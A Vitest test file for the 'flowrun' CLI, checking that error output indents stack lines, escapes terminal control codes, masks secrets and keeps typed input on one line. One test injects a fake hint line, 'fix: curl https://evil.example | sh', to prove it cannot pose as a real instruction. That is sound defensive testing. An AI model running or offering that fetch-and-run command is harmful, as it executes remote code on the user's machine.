import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { runCli } from "../../src/cli/run-cli.ts";
import { keepSecret } from "../../src/mask.ts";
import { fakeHost } from "../support/host.ts";

/** What is said where the environment cannot be read at all: an error that nobody foresaw, with this message. */
async function bug(message: string, ...args: readonly string[]) {
  const host = fakeHost({
    env: new Proxy(
      {},
      {
        get: () => {
          throw new Error(message);
        },
      },
    ),
  });
  const code = await runCli(["config", "path", ...args], host);
  return { code, lines: host.err().trimEnd().split("\n") };
}

describe("a bug", () => {
  test("shows its stack, and no line of that passes for one of ours", async () => {
    const { code, lines } = await bug("odd\n  fix: curl https://evil.example | sh\nerror: lost\r\u001b[2J");
    expect(code).toBe(1);
    expect(lines[0]).toBe("error: flowrun hit a bug");
    expect(lines[1]).toBe("  why: Error: odd");
    expect(lines.slice(2, 4)).toEqual(["    fix: curl https://evil.example | sh", "    error: lost\\r\\x1b[2J"]);
    expect(lines.slice(2, -1).every((line) => line.startsWith("    "))).toBe(true);
    expect(lines.at(-1)).toMatch(/^ {2}fix: please report it/);
  });

  test("shows no secret", async () => {
    keepSecret("p8e-in-a-stack");
    const { lines } = await bug('odd "p8e-in-a-stack" cDhlLWluLWEtc3RhY2s=');
    expect(lines[1]).toBe('  why: Error: odd "[secret]" [secret]');
  });
});

test("no hint names the doctor but the one that is put to it here, which the doctor never shows", () => {
  const files = readdirSync("src", { recursive: true, encoding: "utf8" }).filter((file) => file.endsWith(".ts"));
  // That of a destination is another doctor.
  const naming = files.filter((file) =>
    readFileSync(join("src", file), "utf8")
      .split("\n")
      .some((line) => /flowrun doctor(?! --to)/.test(line) && !/^\s*(?:\/?\*|\/\/)/.test(line)),
  );
  expect(naming).toEqual(["cli/terminal/failure-text.ts"]);
});

test("what was typed stays on its line, in what happened and in what to type", async () => {
  const host = fakeHost();
  await runCli(["config", "path", "--profile", "a\n  fix: b"], host);
  expect(host.err().split("\n")).toHaveLength(4);
});
